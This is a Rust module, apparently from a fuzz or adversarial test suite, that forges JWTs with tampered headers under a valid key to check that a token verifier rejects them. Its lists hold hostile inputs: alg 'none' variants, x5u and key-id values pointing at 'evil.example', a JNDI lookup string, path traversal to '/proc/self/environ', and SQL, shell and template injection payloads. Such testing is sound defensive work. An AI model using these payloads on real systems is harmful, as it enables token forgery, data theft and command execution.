//! Headers that are not exactly ours, signed with the real key.

use naughty_strings::BLNS;

use super::class::Attack;
use super::draw::Draw;
use super::fields::Fields;
use super::forge::{base64, from_base64, hex, hs384, hs512, quoted, signed};
use super::honest::{Honest, id, quoted_id};

const OURS: &[&str] = &["alg", "typ", "kid"];

/// A field that we never write. Those of the standards change what a token means.
pub(super) fn added(honest: &Honest, draw: &mut Draw) -> Attack {
    const FIELDS: &[(&str, &str)] = &[
        ("crit", r#"["exp"]"#),
        ("crit", r#"["b64"]"#),
        ("crit", r#"["x"]"#),
        ("crit", "[]"),
        ("crit", r#""exp""#),
        ("crit", "null"),
        ("b64", "false"),
        ("b64", "true"),
        ("jwk", r#"{"kty":"oct","k":""}"#),
        ("jku", r#""https://auth.example.com/keys""#),
        ("x5u", r#""https://evil.example/""#),
        ("x5c", "[]"),
        ("x5t", r#""""#),
        ("x5t#S256", r#""""#),
        ("zip", r#""DEF""#),
        ("cty", r#""JWT""#),
        ("enc", r#""A128CBC-HS256""#),
        ("epk", "{}"),
        ("apu", r#""""#),
        ("p2c", "2147483647"),
        ("p2s", r#""""#),
        ("iss", r#""https://auth.example.com""#),
        ("exp", "9999999999"),
        ("nonce", r#""x""#),
        ("url", r#""https://auth.example.com""#),
        ("ppt", r#""shaken""#),
        ("iat", "1800000000"),
        ("svt", "[]"),
        ("trust_chain", "[]"),
        ("Alg", r#""none""#),
        ("ALG", r#""HS256""#),
        ("alg ", r#""HS256""#),
        ("alg\u{0}", r#""none""#),
        ("Typ", r#""at+jwt""#),
        ("KID", r#""x""#),
        ("аlg", r#""none""#),
        ("", r#""""#),
        ("__proto__", r#"{"alg":"none"}"#),
        ("constructor", "null"),
        ("$ref", r##""#""##),
    ];
    let name_and_value = match draw.walk(FIELDS.len() + 2) {
        0 => (base64(draw.bytes(4)), "null".to_owned()),
        1 => (draw.pick(BLNS).to_string(), quoted(draw.pick(BLNS))),
        known => {
            let (name, value) = FIELDS[known - 2];
            (name.to_owned(), value.to_owned())
        }
    };
    let (name, value) = name_and_value;
    changed(honest, draw, |header, draw| {
        header.adding(&quoted(&name), &value, draw)
    })
}

/// One, two or all three of them.
pub(super) fn removed(honest: &Honest, draw: &mut Draw) -> Attack {
    let which = 1 + draw.walk(7);
    changed(honest, draw, |header, _| {
        let gone = OURS
            .iter()
            .enumerate()
            .filter(|(place, _)| which >> place & 1 == 1);
        gone.fold(header, |header, (_, name)| header.without(name))
    })
}

/// Twice the same name, also where one is written with an escape; the right value first or last.
pub(super) fn doubled(honest: &Honest, draw: &mut Draw) -> Attack {
    const VALUES: &[&str] = &[
        "same",
        r#""none""#,
        r#""JWT""#,
        "null",
        "1",
        r#""""#,
        "[]",
        "{}",
    ];
    let name = draw.each(OURS);
    let value = draw.each(VALUES);
    let written = written(name, draw);
    changed(honest, draw, |header, draw| {
        let value = if value == "same" {
            header.value(name).to_owned()
        } else {
            value.to_owned()
        };
        header.adding(&written, &value, draw)
    })
}

/// A name as JSON may write it: as it is, or with an escape.
pub(super) fn written(name: &str, draw: &mut Draw) -> String {
    let escaped = draw.walk(name.len() + 1);
    let letter = |(place, letter): (usize, char)| {
        if place == escaped {
            format!("\\u{:04x}", u32::from(letter))
        } else {
            letter.to_string()
        }
    };
    let letters: String = name.chars().enumerate().map(letter).collect();
    format!("\"{letters}\"")
}

/// No text where text belongs.
pub(super) fn retyped(honest: &Honest, draw: &mut Draw) -> Attack {
    let name = draw.each(OURS);
    let kind = draw.walk(10);
    let number = draw.between(-9, 300).to_string();
    changed(honest, draw, |header, _| {
        let right = header.value(name).to_owned();
        let value = match kind {
            0 => "null".to_owned(),
            1 => "true".to_owned(),
            2 => number,
            3 => "1e400".to_owned(),
            4 => format!("[{right}]"),
            5 => format!("[{right},{right}]"),
            6 => format!("{{\"{name}\":{right}}}"),
            7 => "{}".to_owned(),
            8 => "[]".to_owned(),
            _ => right.trim_matches('"').to_owned(),
        };
        header.with(name, value)
    })
}

/// HMAC all the same, or the longer HMAC that the header promises, under the real key.
pub(super) fn algorithm(honest: &Honest, draw: &mut Draw) -> Attack {
    const NAMES: &[&str] = &[
        "HS384",
        "HS512",
        "none",
        "None",
        "NONE",
        "RS256",
        "PS256",
        "ES256",
        "EdDSA",
        "hs256",
        "HS256 ",
        " HS256",
        "Hs256",
        "HS256\0",
        "HS\u{200b}256",
        "ＨＳ256",
        "HS25６",
        "HS-256",
        "HMACSHA256",
        "dir",
        "A128KW",
        "",
        "HS",
        "HS2566",
        "S256",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    ];
    let name = match draw.walk(NAMES.len() + 1) {
        0 => draw.pick(BLNS),
        known => NAMES[known - 1],
    };
    let longer = draw.walk(3);
    let (header, claims, secret) = honest.pieces(draw);
    let body = format!(
        "{}.{}",
        base64(header.with("alg", quoted(name)).text()),
        base64(claims.text())
    );
    let mac = match longer {
        0 => hs384(secret, &body),
        1 => hs512(secret, &body),
        _ => super::forge::hs256(secret, &body),
    };
    Attack::Access(format!("{body}.{}", base64(mac)))
}

/// Other kinds of JWT, and other ways to write ours.
pub(super) fn kind(honest: &Honest, draw: &mut Draw) -> Attack {
    const NAMES: &[&str] = &[
        "JWT",
        "jwt",
        "JWS",
        "JOSE",
        "JOSE+JSON",
        "application/jwt",
        "application/at+jwt",
        "AT+JWT",
        "At+jwt",
        "at+jwt ",
        " at+jwt",
        "at jwt",
        "at%2Bjwt",
        "at-jwt",
        "at",
        "at+jwt;v=1",
        "rt+jwt",
        "id+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "oauth-authz-req+jwt",
        "entity-statement+jwt",
        "token-introspection+jwt",
        "dc+sd-jwt",
        "kb+jwt",
        "client-authentication+jwt",
        "at+jwt\0",
        "аt+jwt",
        "ａt+jwt",
        "at+jwt\u{200b}",
        "at＋jwt",
        "",
        "null",
    ];
    let name = match draw.walk(NAMES.len() + 1) {
        0 => draw.pick(BLNS),
        known => NAMES[known - 1],
    };
    changed(honest, draw, |header, _| header.with("typ", quoted(name)))
}

/// Not the id of the key that signed it.
pub(super) fn key_id(honest: &Honest, draw: &mut Draw) -> Attack {
    let kid = odd_key_id(honest, draw);
    changed(honest, draw, |header, _| {
        let kid = if header.value("kid") == kid {
            "null".to_owned()
        } else {
            kid
        };
        header.with("kid", kid)
    })
}

/// A `kid` as JSON: of another key, the right one written otherwise, or none at all.
pub(super) fn odd_key_id(honest: &Honest, draw: &mut Draw) -> String {
    const INJECTIONS: &[&str] = &[
        "",
        "0",
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "https://evil.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "\" OR \"\"=\"",
        "; sleep 5",
        "| id",
        "$(id)",
        "`id`",
        "%00",
        "\0",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "*",
        "default",
        "access.key",
        "AWSCURRENT",
        "arn:aws:secretsmanager:eu-central-1:123456789012:secret:tollgate/access-key",
        "constructor",
        "__proto__",
        "\u{202e}",
        "AAAAAAAAAAA",
        "AAAAAAAAAAAAAAAA",
        "A",
        "ÿ",
        "🦀",
    ];
    let keys = &honest.access_keys;
    let right = id(&keys.current).to_string();
    let bytes = from_base64(&right);
    let kid = match draw.walk(INJECTIONS.len() + 14) {
        0 => id(&keys.dropped).to_string(),
        1 => return quoted_id([&keys.older, &keys.current][draw.below(2)]),
        2 => id(&honest.refresh_keys.current).to_string(),
        3 => format!("{right}="),
        4 => format!("{right} "),
        5 => format!("{right}A"),
        6 => right[1..].to_owned(),
        7 => right.to_ascii_lowercase(),
        8 => hex(&bytes, ""),
        9 => base64(&right),
        // The last character has two bits that stand for nothing.
        10 => format!(
            "{}{}",
            &right[..right.len() - 1],
            draw.pick(&["B", "F", "J", "Z", "h", "9", "_"])
        ),
        11 => draw.pick(BLNS).to_string(),
        12 => "x".repeat(draw.below(4_000)),
        13 => base64(draw.bytes(8)),
        known => INJECTIONS[known - 14].to_owned(),
    };
    quoted(&kid)
}

/// The header of a good token, changed, under a good signature.
fn changed(
    honest: &Honest,
    draw: &mut Draw,
    change: impl FnOnce(Fields, &mut Draw) -> Fields,
) -> Attack {
    let (header, claims, secret) = honest.pieces(draw);
    let header = change(header, draw);
    Attack::Access(signed(secret, header.text(), claims.text()))
}
